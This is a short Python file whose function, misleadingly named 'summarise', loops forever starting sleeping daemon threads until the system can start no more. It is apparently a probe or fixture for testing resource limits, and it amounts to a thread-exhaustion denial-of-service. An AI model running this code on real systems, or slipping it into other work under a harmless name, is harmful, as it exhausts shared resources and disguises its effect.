"""Start threads until no more can be started."""

import threading
import time


def summarise(x):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
